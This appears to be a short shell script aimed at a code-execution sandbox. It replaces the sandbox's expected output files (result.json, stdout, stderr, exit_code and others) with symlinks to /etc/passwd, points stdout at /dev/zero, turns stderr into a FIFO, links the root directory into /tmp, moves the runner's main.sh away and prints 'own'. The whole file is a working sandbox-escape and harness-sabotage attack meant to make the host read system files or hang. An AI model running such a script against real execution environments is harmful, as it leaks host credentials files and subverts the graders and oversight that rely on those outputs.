for name in result.json stdout stderr output out report exit_code .program main.sh; do
    rm -f "/box/$name"
    ln -sf /etc/passwd "/box/$name"
done
rm -f /box/stdout && ln -s /dev/zero /box/stdout
rm -f /box/stderr && mkfifo /box/stderr
rm -rf /tmp/folder && mkdir -p /tmp/folder && ln -s / /tmp/folder/root
mv /box/main.sh /tmp/ 2>/dev/null
echo own
